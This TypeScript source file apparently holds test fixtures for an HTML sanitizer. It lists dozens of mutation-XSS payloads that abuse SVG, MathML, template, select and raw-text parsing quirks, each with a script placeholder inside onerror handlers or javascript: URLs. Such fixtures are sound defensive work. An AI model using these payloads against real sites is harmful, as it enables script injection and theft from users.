/** Markup that a parser reads one way, and another way once it was written out again. */
import { type Payload, payloads, swallowing } from './payload.ts';

const drawings = payloads('drawing', {
  'style-attribute': '<svg><style><g class="</style><img src=x onerror=%>"></g></style></svg>',
  'broken-out': '<svg></p><style><g title="</style><img src=x onerror=%>"></svg>',
  'textarea-title': '<svg></p><textarea><title><style></textarea><img src=x onerror=%></style></title></svg>',
  'title-attribute': '<svg><title><g id="</title><img src=x onerror=%>"></g></title></svg>',
  'formula-inside': '<svg></p><math><title><style><img src=x onerror=%></style></title></math></svg>',
  'foreign-formula': '<svg><foreignObject><math><mi><img src=x onerror=%></mi></math></foreignObject></svg>',
  'unknown-desc':
    '<svg><bell><desc><noembed></desc><s></s><style><a title="</style><img src onerror=%>"></a></style></noembed></desc></bell></svg>',
  cdata: '<svg><![CDATA[<p>]]><img src=x onerror=%></svg>',
  'cdata-attribute': '<svg><![CDATA[><image href="]]><img src=x onerror=%//"></svg>',
  'cdata-outside': '<![CDATA[<img src=x onerror=%>]]>',
  'self-closed': '<svg/><style/><img src=x onerror=%></style>',
  'script-inside': '<svg><script>%</script></svg>',
  'script-entities': '<svg><script>&#102;%</script></svg>',
  'script-cdata': '<svg><script><![CDATA[%]]></script></svg>',
  'p-inside': '<svg><p><style><g title="</style><img src=x onerror=%>">',
  'select-inside': '<select><svg><style></select><img src=x onerror=%></style></svg></select>',
  'font-out': '<svg><g><font color="red"><style><img src=x onerror=%></style></font></g></svg>',
  'font-stays': '<svg><font><style><img src=x onerror=%></style></font></svg>',
});

const formulas = payloads('formula', {
  'glyph-table': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror=%>">',
  'glyph-link': '<math><mtext><table><mglyph><style><math href="javascript:%">Press</math></style>',
  'glyph-form': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%></style>',
  'glyph-drawing': '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=% src>">',
  'mark-form':
    '<form><math><mtext></form><form><malignmark><svg><mtext><style><path id="</style><img src onerror=%>">',
  'heading-link':
    '<math><mtext><h2><a><h4></a></h4><mglyph><svg><mtext><style><a title="</style><img src onerror=%>"></a></style></h2>',
  'annotation-html':
    '<math><annotation-xml encoding="text/html"><p><style><p title="</style><img src=x onerror=%>"></style></p></annotation-xml></math>',
  'annotation-xhtml':
    '<math><annotation-xml encoding="application/xhtml+xml"><svg><script>%</script></svg></annotation-xml></math>',
  'annotation-plain':
    '<math><annotation-xml><foreignObject><img src=x onerror=%></foreignObject></annotation-xml></math>',
  semantics:
    '<math><semantics><mi>b</mi><annotation encoding="text/html"><img src=x onerror=%></annotation></semantics></math>',
  'textarea-inside': '<math></p><textarea><mi><style></textarea><img src=x onerror=%></mi></math>',
  'template-inside':
    '<math></br><textarea><mtext><template><style></textarea><img src=x onerror=%></template></math>',
  'link-attribute': '<math href="javascript:%"><mi>bell</mi></math>',
  action: '<math><maction actiontype="statusline" xlink:href="javascript:%"><mi>b</mi></maction></math>',
  source: '<math><mi src="@" href="javascript:%" onclick="%">b</mi></math>',
  'mtext-script': '<math><mtext><script>%</script></mtext></math>',
  'ms-style': '<math><ms><style><img src=x onerror=%></style></ms></math>',
});

const texts = payloads('raw-text', {
  'noscript-comment': '<noscript><!-- </noscript><img src=x onerror=%> --></noscript>',
  'noscript-attribute': '<noscript><i title="</noscript><img src=x onerror=%>"></i></noscript>',
  'noscript-style': '<noscript><style></noscript><img src=x onerror=%></style></noscript>',
  'noembed-attribute': '<noembed><i title="</noembed><img src=x onerror=%>"></i></noembed>',
  'noframes-attribute': '<noframes><i title="</noframes><img src=x onerror=%>"></i></noframes>',
  'xmp-attribute': '<xmp><i title="</xmp><img src=x onerror=%>"></i></xmp>',
  'iframe-text': '<iframe><i title="</iframe><img src=x onerror=%>"></i></iframe>',
  'textarea-comment': '<textarea>rope</textarea><!--</textarea><img src=x onerror=%>-->',
  'title-inside': '<title><i title="</title><img src=x onerror=%>"></i></title>',
  'listing-entities': '<listing>&lt;img src=x onerror=%&gt;</listing>',
  'pre-entities': '<pre>&lt;img src=x onerror=%&gt;</pre>',
  'style-twice': '<b><style><style/></style><img src=x onerror=%></b>',
  'style-comment': '<style><!--</style><img src=x onerror=%>--></style>',
  'script-comment': '<script><!--<script></script><img src=x onerror=%>--></script>',
  'option-style':
    '<select><option><style></option></select><b><img src=x onerror=%></b></style></option></select>',
  'option-frame': '<select><option><iframe></select><b><script>%</script></b></iframe></option></select>',
  'select-template': '<select><template><img src=x onerror=%></template></select>',
  'select-selectedcontent':
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=%></option></select>',
  'template-twice': '<template><s><template><s><img src=x onerror=%></s></template></s></template>',
  'template-table': '<table><template><tr><td><img src=x onerror=%></td></tr></template></table>',
  'table-fostered': '<table><a href="javascript:%">tide</a><tr><td>1.2 m</td></tr></table>',
  'table-nested-links': '<a href="/one"><table><a href="javascript:%">two</a></table></a>',
  'caption-form':
    '<table><caption><form><input name="parentNode"><img src=x onerror=%></form></caption></table>',
  'frameset-late': '<frameset onload=%><frame src="javascript:%"></frameset>',
  'body-late': '<body onpageshow=% onscroll=%>',
  'html-late': '<html onclick=% manifest="@">',
  'head-late': '<head><base href="javascript:%//"></head>',
  'image-name': '<image src=x onerror=%>',
  isindex: '<isindex action="javascript:%" type=image>',
  keygen: '<keygen onfocus=% autofocus>',
  'dialog-open': '<dialog open onclose=%>Ring</dialog>',
});

const rest = swallowing('open', {
  plaintext: '<plaintext><img src=x onerror=%>',
  xmp: '<xmp><svg><b><style><b title="</style><img src=x onerror=%>">',
  noembed: '<noembed><svg><b><style><b title="</style><img src=x onerror=%>">',
  style: '<style><img src="</style onerror=%>',
  script: '<script <img src=x onerror=%>',
  textarea: '<textarea><img src=x onerror=%>',
  title: '<title><img src=x onerror=%>',
  comment: '<!-- `<img src=x onerror=%>',
  attribute: '<img alt="<img src=x onerror=%>',
  iframe: '<iframe><img src=x onerror=%>',
  noscript: '<noscript><style><img src=x onerror=%>',
  template: '<template><p><img src=x onerror=%>',
  select: '<select><option><img src=x onerror=%>',
  'title-template': '<svg><title><template><style></template></title><img src=x onerror=%></svg>',
  'foreign-style':
    '<svg><foreignObject><p><style><p class="</style><iframe onload&#x3d;%>"></style></p></foreignObject></svg>',
  'desc-noscript': '<svg><desc><noscript><style></noscript><img src=x onerror=%></style></desc></svg>',
  'option-unknown':
    '<math><mtext><option><bell><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=%>"></a></style>',
  drawing: '<svg><style><img src=x onerror=%//',
  formula: '<math><mtext><style><img src=x onerror=%//',
});

export const nesting: readonly Payload[] = [...drawings, ...formulas, ...texts, ...rest];
